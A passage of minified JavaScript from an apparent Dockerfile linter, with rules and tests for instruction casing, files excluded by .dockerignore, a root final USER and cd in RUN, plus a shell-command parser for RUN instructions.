s=t.fromInstruction.range;if(s.start.line<=e&&e<=s.end.line)return!0}return this.ast.getContainingImage({line:e,character:0})!==this.ast})}memoize(e,t){if(this.memo.has(e))return this.memo.get(e);let s=t();return this.memo.set(e,s),s}memoizeAt(e,t,s){let i=this.memoTables.get(e);if(i||this.memoTables.set(e,i=[]),t<i.length){let o=i[t];if(o!==Wf)return o}else for(;i.length<=t;)i.push(Wf);let r=s();return i[t]=r,r}textOf(e){return this.text.slice(this.lines.offsetAt(e.start),this.lines.offsetAt(e.end))}get firstNamedStage(){return this.memoize("firstNamedStage",()=>this.stages.find(e=>e.name)?.index??1/0)}stageNamed(e){return this.memoize("stagesByName",()=>{let t=new Map;for(let s of this.stages){let i=s.name?.toLowerCase();i&&!t.has(i)&&t.set(i,s)}return t}).get(e.toLowerCase())}stageNamedBefore(e,t){let s=this.stageNamed(e);return s&&s.index<t?s:void 0}parentStage(e){return this.memoizeAt("parentStage",e.index,()=>{if(!(this.firstNamedStage<e.index))return;let t=e.imageName;return t?this.stageNamedBefore(t,e.index):void 0})}findStage(e){let t=this.stageNamed(e);if(t)return t;if(/^\d+$/.test(e))return this.stages[Number(e)]}};function GR(n){for(let e=0;e<n.lines.lineCount;e++){let t=n.lines.lineText(e),s=/^\s*#\s*check\s*=\s*(.*?)\s*$/i.exec(t);if(s){let i={skip:new Set,skipAll:!1,error:!1,experimental:new Set,experimentalAll:!1,range:{start:{line:e,character:0},end:{line:e,character:t.length}}};for(let r of s[1].split(";")){let o=r.indexOf("=");if(o<0)continue;let a=r.slice(0,o).trim().toLowerCase(),c=r.slice(o+1).split(",").map(l=>l.trim()).filter(Boolean);if(a==="skip")for(let l of c)l.toLowerCase()==="all"?i.skipAll=!0:i.skip.add(l);else if(a==="error")i.error=c[0]?.toLowerCase()==="true";else if(a==="experimental")for(let l of c)l.toLowerCase()==="all"?i.experimentalAll=!0:i.experimental.add(l)}return i}if(!/^\s*#\s*[A-Za-z]+\s*=/.test(t))break}}function VR(n){return n.instructions.filter(e=>e.stage&&Uf.has(e.keyword))}var zR={id:"ConsistentInstructionCasing",language:"dockerfile",severity:"info",compat:{buildkit:"ConsistentInstructionCasing"},docs:{summary:"Instructions should all use the same casing, the one most of the file uses.",why:"Instruction keywords are case-insensitive, but a file mixing `RUN` and `run` (or `Run`) is harder to read and scan; `docker build --check` reports it.",bad:`FROM alpine:3.19
run apk add --no-cache curl
COPY . /app
`,good:`FROM alpine:3.19
RUN apk add --no-cache curl
COPY . /app
`},check({model:n,report:e}){let t=VR(n),s=0,i=0;for(let o of t){let a=o.written;a===a.toLowerCase()?s++:a===a.toUpperCase()&&i++}let r=s>i;for(let o of t){let a=o.written,c=r?a.toLowerCase():a.toUpperCase();c!==a&&e({message:`Command '${a}' should match the case of the command majority (${r?"lowercase":"uppercase"})`,range:o.keywordRange,fixes:[{title:`Write '${c}'`,preferred:!0,edits:[{range:o.keywordRange,newText:c}]}]})}},tests:[{name:"one lowercase among uppercase",input:`FROM scratch
copy a /a
COPY b /b
`,expect:[{line:2,col:1,message:"'copy'"}],fixed:`FROM scratch
COPY a /a
COPY b /b
`},{name:"lowercase majority",input:`FROM scratch
copy a /a
copy b /b
`,expect:[{line:1,message:"(lowercase)"}],fixed:`from scratch
copy a /a
copy b /b
`},{name:"mixed case is always reported",input:`From scratch
FROM scratch AS b
`,expect:[{line:1,message:"'From'"}]},{name:"tie goes to uppercase",input:`from scratch
COPY a /a
`,expect:[{line:1}]},{name:"consistent",input:`FROM alpine
RUN <<EOT
env
EOT
COPY a /a
`,expect:[]},{name:"global ARG is not counted",input:`arg V=1
FROM alpine
RUN true
`,expect:[]}]},Bf=zR;var Dt=ie(require("node:path"));function KR(n){return/[.+()|^$\\{}]/.test(n)?"\\"+n:n}function Gf(n){let e="^";for(let t=0;t<n.length;t++){let s=n[t];if(s==="*")n[t+1]==="*"?(t++,n[t+1]==="/"&&t++,e+=t+1>=n.length?".*":"(.*/)?"):e+="[^/]*";else if(s==="?")e+="[^/]";else if(s==="\\")t++,t<n.length&&(e+="\\"+n[t]);else if(s==="["){let i=n.indexOf("]",t+1);if(i<0)e+="\\[";else{let r=n.slice(t+1,i);(r.startsWith("^")||r.startsWith("!"))&&(r="^"+r.slice(1)),e+="["+r.replace(/\\/g,"\\\\")+"]",t=i}}else e+=KR(s)}return new RegExp(e+"$")}function Vf(n){let e=Dt.posix.normalize(n),t=e.replace(/\/+$/,"");return t===""&&(t=e.startsWith("/")?"/":"."),t}function JR(n){let e=[];for(let t of n.split(/\r?\n/)){if(t.startsWith("#"))continue;let s=t.trim();if(!s)continue;let i=!1;s.startsWith("!")&&(i=!0,s=s.slice(1).trim()),s&&(s=Vf(s),s.length>1&&s.startsWith("/")&&(s=s.slice(1))),e.push({text:s,negated:i,re:Gf(s)})}return e}function yl(n,e){let t=-1,s=e.split("/");for(let i=0;i<n.length;i++){let r=n[i];if(r.negated!==t>=0)continue;let o=r.re.test(e);for(let a=1;!o&&a<s.length;a++)o=r.re.test(s.slice(0,a).join("/"));o&&(t=r.negated?-1:i)}return t}function XR(n,e){if(n.re.test(e))return!0;let t=e==="."?[]:e.split("/"),s=n.text.split("/");if(s.length<=t.length&&!n.text.includes("**"))return!1;for(let i=0;i<t.length&&i<s.length;i++){if(s[i].includes("**"))return!0;if(!Gf(s[i]).test(t[i]))return!1}return!0}function ZR(n,e){let t=e.replace(/^\/+/,"")||".",s=/[*?[]/.test(t),i;if(t==="."){if(i=yl(n,"x"),i<0||yl(n,"x/y")<0)return!1}else if(i=yl(n,t),i<0)return!1;for(let r=i+1;r<n.length;r++){let o=n[r];if(o.negated&&(s||t==="."||XR(o,t)))return!1}return!0}function QR(n,e){if(!e)return;let t=Dt.dirname(e),i=n.readFile(Dt.join(t,Dt.basename(e)+".dockerignore"))??n.readFile(Dt.join(t,".dockerignore"));return i===void 0?void 0:JR(i)}var e0={id:"CopyIgnoredFile",language:"dockerfile",severity:"warning",compat:{buildkit:"CopyIgnoredFile"},docs:{summary:"COPY and ADD should not name files that .dockerignore excludes from the build context.",why:'Excluded files are not sent to the builder, so the COPY fails with "not found" (or copies an empty directory) even though the file is right there next to the Dockerfile.',bad:`FROM node:20
COPY .env /app/.env
`,good:`FROM node:20
COPY package.json /app/
`,files:{".dockerignore":`.env
node_modules
`}},check({model:n,report:e,files:t,path:s}){let i=null;for(let r of n.instructions){if(r.keyword!=="COPY"&&r.keyword!=="ADD")continue;let{flags:o,words:a}=ts(n,r);if(o.some(l=>l.name==="from")||a.length<2)continue;if(i===null&&(i=QR(t,s)),!i||i.length===0)return;let c=a.slice(0,-1);if(a[0].startsWith("["))try{let l=JSON.parse(a.join(" "));Array.isArray(l)&&l.every(u=>typeof u=="string")&&(c=l.slice(0,-1))}catch{continue}for(let l of c){if(l.startsWith("<<")||l.includes("$")||/^[a-z][a-z0-9+.-]*:\/\//i.test(l)||l.startsWith("git@"))continue;let u=Vf(Ut(l,n.escape).value);ZR(i,u)&&e({message:`Attempting to ${r.keyword==="ADD"?"Add":"Copy"} file "${u}" that is excluded by .dockerignore`,range:r.range})}}},tests:[{name:"COPY and ADD of an ignored file",input:`FROM scratch
COPY Dockerfile .
ADD Dockerfile /windy
`,files:{".dockerignore":`
Dockerfile
`},expect:[{line:2,message:'Attempting to Copy file "Dockerfile" that is excluded by .dockerignore'},{line:3,message:"Attempting to Add file"}]},{name:"no .dockerignore",input:`FROM scratch
COPY Dockerfile .
`,expect:[]},{name:"quoted sources (the builder removes the quotes)",input:`FROM scratch
COPY "secret.txt" '.env' /app/
`,files:{".dockerignore":`secret.txt
.env
`},expect:[{line:2,message:'"secret.txt"'},{line:2,message:'".env"'}]},{name:"a re-included file",input:`FROM scratch
COPY ./Dockerfile .
COPY . .
`,files:{".dockerignore":`**
!Dockerfile
`},expect:[]},{name:"dotfiles do not exclude the context root",input:`FROM scratch
COPY . .
`,files:{".dockerignore":`.*
`},expect:[]},{name:"everything excluded",input:`FROM scratch
COPY . .
`,files:{".dockerignore":`*
`},expect:[{line:2,message:'"."'}]},{name:"directories, anchors and negations",input:`FROM scratch
COPY sub/a.txt /
COPY /build/out.js /
COPY docs/x/readme.md /
COPY keep/b.txt /
`,files:{".dockerignore":`# comment
sub
!sub/b.txt
/build/
**/readme.md
keep
!keep/b.txt
`},expect:[{line:2,message:'"sub/a.txt"'},{line:3,message:'"/build/out.js"'},{line:4}]},{name:"negation that re-includes content below the copied directory",input:`FROM scratch
COPY sub /sub
COPY sub/*.txt /
COPY su.b /x
`,files:{".dockerignore":`sub
!sub/a.txt
su.b
!su\\.b/keep.txt
`},expect:[]},{name:"negation before the exclusion does not help",input:`FROM scratch
COPY sub/a.txt /
`,files:{".dockerignore":`!sub/b.txt
sub
`},expect:[{line:2}]},{name:"per-Dockerfile ignore file wins",path:"build.Dockerfile",input:`FROM scratch
COPY a.txt /
COPY b.txt /
`,files:{".dockerignore":`a.txt
`,"build.Dockerfile.dockerignore":`b.txt
`},expect:[{line:3}]},{name:"other stages, URLs and variables are not context files",input:`FROM scratch AS base
COPY Dockerfile /foobar
FROM base
COPY --from=base /foobar /x
ADD https://example.org/foobar /y
ARG F=foobar
COPY $F /z
`,files:{".dockerignore":`foobar
`},expect:[]}]},zf=e0;function t0(n){let e=n.split(":")[0];return e==="root"||e==="0"}var n0={id:"DL3002",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3002"},docs:{summary:"The last USER of the final image should not be root.",why:"Containers run as the image's last USER. Running as root means a compromise of the process is a root compromise of the container (and, with a misconfigured runtime, of the host). Only the stage that becomes the image is checked: a build stage running as root is harmless.",bad:`FROM node:20-slim
USER root
RUN npm ci
`,good:`FROM node:20-slim
USER root
RUN npm ci
USER node
`},check({model:n,report:e}){let t=n.stages[n.stages.length-1],s=new Set;for(;t&&!s.has(t);){s.add(t);let i;for(let o of t.instructions)o.keyword==="USER"&&(i=o);if(i){let o=i.argValues[0]??"";t0(o)&&e({message:"Last USER should not be root",range:i.range});return}let r=n.parentStage(t);if(!r)return;t=r}},tests:[{name:"USER root last",input:`FROM debian
USER root
RUN id
`,expect:[{line:2,col:1}]},{name:"USER 0:0",input:`FROM debian
USER 0:0
`,expect:[{line:2}]},{name:"root then app",input:`FROM debian
USER root
RUN id
USER app
`,expect:[]},{name:"no USER at all",input:`FROM debian
RUN id
`,expect:[]},{name:"build stage as root is fine",input:`FROM debian AS build
USER root
FROM debian
USER app
`,expect:[]},{name:"inherited from the parent stage",input:`FROM debian AS base
USER root
FROM base
RUN id
`,expect:[{line:2}]},{name:"root-like names",input:`FROM debian
USER rootless
`,expect:[]},{name:"quoted root (the builder removes the quotes)",input:`FROM debian
USER "root"
`,expect:[{line:2,col:1}]},{name:"quoted user",input:`FROM debian
USER "app:app"
`,expect:[]}]},Kf=n0;var wl={argv:["/bin/sh","-c"],posix:!0,pipefail:!1},s0={argv:["cmd","/S","/C"],posix:!1,pipefail:!1};function Xs(n,e){if(e.keyword==="RUN")return n.memoizeAt("shell:run",e.index,()=>{if(Rl(n,e).posix)return c0(n,e)})}function H(n){return n.memoize("shell:runs",()=>{let e=[];for(let t of n.instructions){let s=Xs(n,t);s&&e.push(s)}return e})}function Rl(n,e){return a0(n)[e.index]??wl}function i0(n,e){let t=Xe(n[0]??"").toLowerCase().replace(/\.exe$/,""),s=!(t==="pwsh"||t==="powershell"||t==="cmd");return{argv:n,posix:s,pipefail:s&&vl(n.slice(1)),source:e}}function Xe(n){let e=Math.max(n.lastIndexOf("/"),n.lastIndexOf("\\"));return e>=0?n.slice(e+1):n}function Ot(n,e,t=[]){return r0(n,e,t)!==void 0}function r0(n,e,t=[]){for(let s of n.args){let i=s.value;if(i==="--")break;if(i.startsWith("--")){let r=i.slice(2).split("=")[0];if(t.includes(r))return s}else if(i.startsWith("-")&&i.length>1){for(let r of i.slice(1))if(e.includes(r))return s}}}function z(n,e=[],t=0){let s=e instanceof Set?e:new Set(e),i=[],r=n.args,o=!1;for(let a=t;a<r.length;a++){let c=r[a].value;if(o){i.push(r[a]);continue}if(c==="--"){o=!0;continue}if(c.startsWith("--")){!c.includes("=")&&s.has(c.slice(2))&&a++;continue}if(c.startsWith("-")&&c.length>1){(s.has(c.slice(1))||/^-[a-zA-Z]+$/.test(c)&&s.has(c[c.length-1]))&&a++;continue}i.push(r[a])}return i}function uo(n,e=[]){return z(n,e)[0]}function Zs(n,e){return n.memoizeAt("shell:mounts",e.index,()=>{let t=[];for(let s of re(n,e).flags){if(s.name.toLowerCase()!=="mount")continue;let i={type:"bind"};for(let r of(s.value??"").split(",")){let o=r.indexOf("="),a=(o<0?r:r.slice(0,o)).trim().toLowerCase(),c=o<0?"":r.slice(o+1).trim().replace(/^["']|["']$/g,"");a==="type"?i.type=c.toLowerCase():(a==="target"||a==="dst"||a==="destination")&&(i.target=c.replace(/\/+$/,"")||"/")}t.push(i)}return t})}function We(n,e,t){return Zs(n,e).some(s=>(s.type==="cache"||s.type==="tmpfs")&&s.target!==void 0&&(t===s.target||t.startsWith(s.target+"/")||s.target==="/"))}function St(n,e,t){if(e.form!=="shell"||e.endsWithComment||e.opaque)return;let s=e.ins.argsRange;if(!s)return;let i=n.textOf(s);if(/[;&|]\s*$/.test(i)||/<</.test(i))return;let r=n.escape,o=i.split(/\r?\n/),a;if(o.length===1)a=` && ${t}`;else{let c=o.slice(1).find(l=>/^\s*&&/.test(l));if(c){let l=/^\s*/.exec(c)[0];a=` ${r}
${l}&& ${t}`}else{let l=o[o.length-1],u=/^\s*/.exec(l)[0]||"    ";a=` && ${r}
${u}${t}`}}return{range:{start:s.end,end:s.end},newText:a}}function _e(n,e){return{range:{start:n.range.end,end:n.range.end},newText:` ${e}`}}var o0=/(^|[/:_-])(nanoserver|servercore|windowsservercore)([:/@_-]|$)|^mcr\.microsoft\.com\/windows/i;function a0(n){return n.memoize("shell:states",()=>{let e=new Array(n.instructions.length),t=new Map;for(let s of n.stages){let i=n.parentStage(s),r=i?t.get(i)??wl:o0.test(s.image??"")?s0:wl;for(let o of s.instructions){if(o.keyword==="SHELL"){let a=o.jsonStrings.map(c=>po(n.textOf(c.getRange()))??c.getJSONValue());a.length&&(r=i0(a,o))}e[o.index]=r}t.set(s,r)}return e})}function po(n){try{let e=JSON.parse(n);return typeof e=="string"?e:void 0}catch{return}}function vl(n){let e=!1;for(let t of n)if(t==="pipefail"&&e||(e=/^-[a-zA-Z]*o$/.test(t),t.startsWith("-o")&&t.slice(2)==="pipefail"))return!0;return!1}var ss=class n{constructor(e,t,s){this.text=e;this.runAt=t;this.docAt=s}text;runAt;docAt;static slice(e,t){return new n(e,[0],[t])}offset(e){let t=this.runAt,s=0,i=t.length-1;for(;s<i;){let r=s+i+1>>1;t[r]<=e?s=r:i=r-1}return this.docAt[s]+(e-t[s])}};function c0(n,e){let t={ins:e,form:"shell",commands:[],pipes:[],endsWithComment:!1,opaque:!1},s=e.argsRange;if(!s)return t;let i=n.text,r=n.lines.offsetAt(s.start),o=n.lines.offsetAt(s.end),a=e.jsonStrings;if(a.length>0){t.form="exec";let f=a.map(m=>{let g=m.getRange(),w=n.lines.offsetAt(g.start),v=n.lines.offsetAt(g.end);return{value:po(n.text.slice(w,v))??m.getJSONValue(),start:w,end:v,range:g,quoted:!0,dynamic:!1}}),h=new Js(n,ss.slice("",r),t,!1);return h.emit(f,[],""),h.finish(),t}let c=e.heredocs,l=[];for(let f of c){let h=f.getContentRange(),m=f.getDelimiterRange(),g=h?n.lines.offsetAt(h.start):m?n.lines.offsetAt(m.start):-1,w=m?n.lines.offsetAt(m.end):h?n.lines.offsetAt(h.end):-1;g>=0&&w>=g&&l.push([g,w])}let u=l0(i,r,o,n.escape,l),p=u.text.split(`
`,1)[0];if(c.length>0&&/^\s*(<<-?\s*(["']?)[A-Za-z0-9_.-]+\2\s*)+$/.test(p)){t.form="heredoc";for(let f of c){let h=f.getContentRange();if(!h)continue;let m=n.lines.offsetAt(h.start),g=n.lines.offsetAt(h.end),w=i.slice(m,g),v=/^#!\s*(\S+)(?:\s+(\S+))?/.exec(w);if(v){let S=Xe(v[1])==="env"?v[2]??"":Xe(v[1]);if(!/^(sh|bash|ash|dash|zsh|ksh|mksh|busybox)$/.test(S)){t.opaque=!0;continue}}let O=new Js(n,ss.slice(w,m),t,!1);O.parseAll(),O.finish()}return t}let d=new Js(n,u,t,!1);return d.parseAll(),d.finish(),t}function l0(n,e,t,s,i){let r=[],o=[],a=[],c=0,l=e,u=h=>{h<=l||(r.push(n.slice(l,h)),o.push(c),a.push(l),c+=h-l)},p=s.charCodeAt(0),d=e,f=0;for(;d<t;){for(;f<i.length&&i[f][1]<=d;)f++;if(f<i.length&&i[f][0]<=d&&d<i[f][1]){d=Math.min(i[f][1],t);continue}let h=f<i.length?Math.min(i[f][0],t):t;for(;d<h;){let g=n.charCodeAt(d);if(g===p||g===13)break;d++}if(d>=h)continue;let m=n[d];if(m===s){let g=d+1;for(;g<t&&(n[g]===" "||n[g]==="	");)g++;if(g>=t||n[g]===`
`||n[g]==="\r"){for(n[g]==="\r"&&g++,n[g]===`
`&&g++;;){let w=g;for(;w<t&&(n[w]===" "||n[w]==="	");)w++;if(w<t&&(n[w]===`
`||n[w]==="\r"||n[w]==="#")){if(f<i.length&&i[f][0]<=w)break;for(;w<t&&n[w]!==`
`;)w++;g=w+1;continue}break}u(d),d=g,l=g;continue}}if(m==="\r"&&n[d+1]===`
`){u(d),d++,l=d;continue}d++}return u(Math.min(d,t)),o.length===0&&(o.push(0),a.push(e)),new ss(r.join(""),o,a)}var lo=Object.freeze([]),u0=Object.freeze([]),kl=class{constructor(e,t,s,i,r,o){this.value=e;this.start=t;this.end=s;this.quoted=i;this.dynamic=r;this.lines=o}value;start;end;quoted;dynamic;lines;_range;get range(){return this._range??=this.lines.range(this.start,this.end)}},p0=new Set(["if","then","else","elif","do","while","until","!","{","time"]),d0=new Set(["fi","done","esac","}"]),f0=new Set(["sh","bash","ash","dash","zsh","ksh","mksh"]),Jf=/^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/,xl=new Uint8Array(128).fill(1);for(let n of` 	
\r;&|<>()\\'"$\``)xl[n.charCodeAt(0)]=0;var Js=class n{constructor(e,t,s,i,r=-1,o=!1){this.model=e;this.src=t;this.run=s;this.nested=i;this.stop=r;this.substitution=o}model;src;run;nested;stop;substitution;pos=0;words=[];redirects=[];before="";heredocs=[];skipUntilSeparator=!1;caseState="none";caseDepth=0;pipefail=!1;depth=0;parseAll(e=!1){let t=this.src.text,s=this.stop>=0?this.stop:t.length;for(;this.pos<s;){let i=t[this.pos];if(i===" "||i==="	"||i==="\r"){this.pos++;continue}if(i===`
`){this.endCommand(`
`),this.pos++,this.readHeredocBodies(s);continue}if(i==="\\"&&t[this.pos+1]===`
`){this.pos+=2;continue}if(i==="#"){for(;this.pos<s&&t[this.pos]!==`
`;)this.pos++;this.pos>=s&&!this.nested&&(this.run.endsWithComment=!0);continue}if(i===";"){if(t[this.pos+1]===";"){this.pos+=2,this.endCommand(";;"),this.caseDepth>0&&(this.caseState="pattern");continue}this.pos++,this.endCommand(";");continue}if(i==="&"){if(t[this.pos+1]==="&"){this.pos+=2,this.endCommand("&&");continue}if(t[this.pos+1]===">"){this.readRedirect(s);continue}this.pos++,this.endCommand("&");continue}if(i==="|"){if(t[this.pos+1]==="|"){this.pos+=2,this.endCommand("||");continue}let o=t[this.pos+1]==="&"?"|&":"|";if(this.caseState==="pattern"){this.pos++;continue}this.run.pipes.push({offset:this.src.offset(this.pos),pipefail:this.pipefail}),this.pos+=o.length,this.endCommand(o);continue}if(i==="("){if(this.words.length===0){this.pos++,this.caseState!=="pattern"&&this.depth++,this.before="(";continue}this.pos++;continue}if(i===")"){if(this.caseState==="pattern"){this.pos++,this.words=[],this.caseState="none";continue}if(this.depth===0&&e){this.endCommand(")");return}this.pos++,this.endCommand(")"),this.depth=Math.max(0,this.depth-1);continue}if(i==="<"||i===">"||/[0-9]/.test(i)&&this.isFdRedirect()){this.readRedirect(s);continue}let r=this.readWord(s);r&&this.addWord(r)}}finish(){this.endCommand(""),this.run.commands.sort((e,t)=>(e.words[0]?.start??0)-(t.words[0]?.start??0))}isFdRedirect(){let e=this.src.text,t=this.pos;for(;t<e.length&&/[0-9]/.test(e[t]);)t++;return e[t]==="<"||e[t]===">"}addWord(e){if(this.caseState==="word"){e.value==="in"&&!e.quoted&&(this.caseState="pattern");return}if(this.caseState==="pattern"){e.value==="esac"&&!e.quoted&&(this.caseDepth--,this.caseState=this.caseDepth>0?"pattern":"none");return}if(this.skipUntilSeparator){e.value==="do"&&!e.quoted&&(this.skipUntilSeparator=!1);return}if(this.words.length===0&&!e.quoted){if(p0.has(e.value))return;if(d0.has(e.value)){e.value==="esac"&&this.caseDepth>0&&(this.caseDepth--,this.caseState=this.caseDepth>0?"pattern":"none");return}if(e.value==="for"||e.value==="select"){this.skipUntilSeparator=!0;return}if(e.value==="case"){this.caseState="word",this.caseDepth++;return}}this.words.push(e)}endCommand(e){if(this.skipUntilSeparator&&(e===";"||e===`
`)){this.skipUntilSeparator=!1,this.before=e;return}if(this.caseState==="word"&&e===`
`)return;let t=this.words,s=this.redirects;if(this.words=[],this.redirects=[],t.length===0){e&&e!==`
`?this.before=e:e===`
`&&this.before!=="|"&&this.before!=="&&"&&this.before!=="||"&&(this.before=`
`);return}let i=this.emit(t,s,e);i&&(e==="|"||e==="|&")&&(i.piped=!0),this.before=e}emit(e,t,s){let i=e.slice(),r=0;for(;r<i.length&&Jf.test(i[r].value)&&!/^['"]/.test(this.rawStart(i[r]));)r++;if(r>=i.length)return;let o=r?i.slice(0,r):lo,a=lo;for(;;){let u=m0(i,r);if(u===void 0||r+u>=i.length)break;a===lo&&(a=[]),a.push(i[r]),r+=u}let c=i[r],l={name:c.dynamic?c.value:Xe(c.value),nameWord:c,args:r+1<i.length?i.slice(r+1):lo,words:i,assignments:o,wrappers:a,redirects:t.length?t:u0,before:this.before,after:s,nested:this.nested,substitution:this.substitution,subshell:this.depth>0,piped:this.before==="|"||this.before==="|&"};return this.run.commands.push(l),l.name==="set"&&vl(l.args.map(u=>u.value))&&(this.pipefail=!0),f0.has(l.name)&&this.parseShellScriptArg(l),l}rawStart(e){return this.model.text.slice(e.start,e.start+1)}parseShellScriptArg(e){let t=e.args,s=-1;for(let c=0;c<t.length;c++){if(/^-[a-zA-Z]*c[a-zA-Z]*$/.test(t[c].value)){s=c+1;break}if(!t[c].value.startsWith("-")&&!(c>0&&t[c-1].value==="-o"))break}let i=t[s];if(!i)return;let r=this.model.text.slice(i.start,i.end),o;if(r.startsWith("'")&&r.endsWith("'")||r.startsWith('"')&&r.endsWith('"')&&!/[\\$`]/.test(r))o=r.slice(1,-1);else if(this.run.form==="exec"&&r.startsWith('"')&&!r.includes("\\"))o=r.slice(1,-1);else return;if(o!==i.value||o.includes(`
`))return;let a=new n(this.model,ss.slice(o,i.start+1),this.run,!0);a.pipefail=vl(t.slice(0,s).map(c=>c.value)),a.parseAll(),a.endCommand("")}readRedirect(e){let t=this.src.text;for(;/[0-9]/.test(t[this.pos]);)this.pos++;let i=["<<<","<<-","<<","<>","<&","<",">>",">&",">|",">","&>>","&>"].find(o=>t.startsWith(o,this.pos))??t[this.pos];for(this.pos+=i.length;this.pos<e&&(t[this.pos]===" "||t[this.pos]==="	");)this.pos++;let r;this.pos<e&&!/[\n;&|()<>]/.test(t[this.pos])&&(r=this.readWord(e)),(i==="<<"||i==="<<-")&&r&&this.heredocs.push({delim:r.value.replace(/["'\\]/g,""),strip:i==="<<-"}),this.redirects.push({op:i,target:r})}readHeredocBodies(e){let t=this.src.text;for(;this.heredocs.length;){let s=this.heredocs.shift();for(;this.pos<e;){let i=t.indexOf(`
`,this.pos);(i<0||i>e)&&(i=e);let r=t.slice(this.pos,i).replace(/\r$/,"");if(s.strip&&(r=r.replace(/^\t+/,"")),this.pos=Math.min(i+1,e),r===s.delim)break}}}makeWord(e,t,s,i,r){let o=this.src.offset(e),a=this.src.offset(t-1)+1;return new kl(s,o,a,i,r,this.model.lines)}readWord(e){let t=this.src.text,s=this.pos,i="",r=!1,o=!1;for(;this.pos<e;){let a=t.charCodeAt(this.pos);if(a<128&&xl[a]===1){let l=this.pos+1;for(;l<e;){let u=t.charCodeAt(l);if(u<128&&xl[u]!==1)break;l++}i+=t.slice(this.pos,l),this.pos=l;continue}let c=t[this.pos];if(c===" "||c==="	"||c===`
`||c===";"||c==="&"||c==="|"||c==="<"||c===">"||c==="("||c===")")if(c==="("&&this.pos>s&&t[this.pos-1]==="="){let l=bl(t,this.pos,e,"(",")");i+=t.slice(this.pos,l+1),this.pos=l+1,o=!0;continue}else break;if(c==="\r"){this.pos++;continue}if(c==="\\"){if(t[this.pos+1]===`
`){this.pos+=2;continue}this.pos+1<e&&(i+=t[this.pos+1]),this.pos+=2,r=!0;continue}if(c==="'"){let l=t.indexOf("'",this.pos+1);(l<0||l>=e)&&(l=e),i+=t.slice(this.pos+1,l),this.pos=l+1,r=!0;continue}if(c==='"'){for(r=!0,this.pos++;this.pos<e&&t[this.pos]!=='"';){let l=t[this.pos];if(l==="\\"&&this.pos+1<e){let u=t[this.pos+1];if(u===`
`){this.pos+=2;continue}i+='$`"\\'.includes(u)?u:l+u,this.pos+=2;continue}if(l==="$"||l==="`"){let u=this.pos;if(this.readExpansion(e)){i+=t.slice(u,this.pos),o=!0;continue}}i+=l,this.pos++}this.pos++;continue}if(c==="$"&&t[this.pos+1]==="'"){let l=this.pos+2,u="";for(;l<e&&t[l]!=="'";)if(t[l]==="\\"&&l+1<e){let p=t[l+1];u+=p==="n"?`
`:p==="t"?"	":p,l+=2}else u+=t[l++];i+=u,this.pos=l+1,r=!0;continue}if(c==="$"||c==="`"){let l=this.pos;if(this.readExpansion(e)){i+=t.slice(l,this.pos),o=!0;continue}}i+=c,this.pos++}if(this.pos===s){this.pos++;return}return this.makeWord(s,Math.min(this.pos,e),i,r,o)}readExpansion(e){let t=this.src.text;if(t[this.pos]==="`"){let r=this.pos+1;for(;r<e&&t[r]!=="`";)r+=t[r]==="\\"?2:1;let o=new n(this.model,this.src,this.run,!0,Math.min(r,e),!0);return o.pos=this.pos+1,o.parseAll(),o.endCommand(""),this.pos=Math.min(r+1,e),!0}let i=t[this.pos+1];if(i==="("&&t[this.pos+2]==="(")return this.pos=bl(t,this.pos+1,e,"(",")")+1,!0;if(i==="("){let r=new n(this.model,this.src,this.run,!0,e,!0);return r.pos=this.pos+2,r.pipefail=this.pipefail,r.parseAll(!0),r.endCommand(""),this.pos=Math.min(r.pos+1,e),!0}if(i==="{")return this.pos=bl(t,this.pos+1,e,"{","}")+1,!0;if(i!==void 0&&/[A-Za-z_]/.test(i)){let r=this.pos+2;for(;r<e&&/[A-Za-z0-9_]/.test(t[r]);)r++;return this.pos=r,!0}return i!==void 0&&/[0-9@*#?$!-]/.test(i)?(this.pos+=2,!0):!1}};function bl(n,e,t,s,i){let r=0;for(let o=e;o<t;o++){let a=n[o];if(a==="\\"){o++;continue}if(a==="'"){let c=n.indexOf("'",o+1);o=c<0?t:c;continue}if(a==='"'){let c=o+1;for(;c<t&&n[c]!=='"';)c+=n[c]==="\\"?2:1;o=c;continue}if(a===s)r++;else if(a===i&&(r--,r===0))return o}return t-1}var h0={sudo:{valueFlags:new Set(["u","g","C","D","h","p","r","t","U","T","user","group","chdir","host","prompt","role","type","other-user","command-timeout","close-from"]),assignments:!0},env:{valueFlags:new Set(["u","C","S","unset","chdir","split-string"]),assignments:!0},nice:{valueFlags:new Set(["n","adjustment"])},nohup:{valueFlags:new Set},exec:{valueFlags:new Set(["a"])},command:{valueFlags:new Set},time:{valueFlags:new Set(["f","o","format","output"])},stdbuf:{valueFlags:new Set(["i","o","e","input","output","error"])},timeout:{valueFlags:new Set(["s","k","signal","kill-after"]),positionalsBefore:1},xargs:{valueFlags:new Set(["a","E","e","I","i","L","l","n","P","s","d","arg-file","delimiter","eof","replace","max-lines","max-args","max-procs","max-chars","process-slot-var"])},gosu:{valueFlags:new Set,positionalsBefore:1},"su-exec":{valueFlags:new Set,positionalsBefore:1},chroot:{valueFlags:new Set(["userspec","groups"]),positionalsBefore:1}};function m0(n,e){if(n.length-e<2||n[e].dynamic)return;let t=Xe(n[e].value),s=h0[t];if(!s||t==="command"&&/^-[a-zA-Z]*[vV]/.test(n[e+1].value))return;let i=1,r=s.positionalsBefore??0;for(;e+i<n.length;){let o=n[e+i].value;if(o==="--"){i++;break}if(o.startsWith("-")&&o.length>1){let a=o.startsWith("--")?o.slice(2):void 0;a!==void 0?!a.includes("=")&&s.valueFlags.has(a)&&i++:o.length===2&&s.valueFlags.has(o[1])&&i++,i++;continue}if(s.assignments&&Jf.test(o)){i++;continue}if(r>0){r--,i++;continue}break}return i}var g0={id:"DL3003",language:"dockerfile",severity:"info",compat:{hadolint:"DL3003"},docs:{summary:"Use WORKDIR to switch to a directory instead of `cd` in RUN.",why:"A `cd` only lasts until the end of its RUN, which is easy to forget when the next RUN assumes it; WORKDIR applies to every following instruction and documents where the build happens. `cd` inside `( \u2026 )` or `$( \u2026 )` does not leak and is not reported. Reported as info: the `cd` works as written within its RUN.",bad:`FROM node:20-slim
RUN cd /app && npm ci
`,good:`FROM node:20-slim
WORKDIR /app
RUN npm ci
`},check({model:n,report:e}){for(let t of H(n)){let s=t.commands.find(i=>i.name==="cd"&&!i.substitution&&!i.subshell);s&&e({message:"Use WORKDIR to switch to a directory",range:s.nameWord.range})}},tests:[{name:"cd then build, as info",input:`FROM node:20
RUN cd /app && npm ci
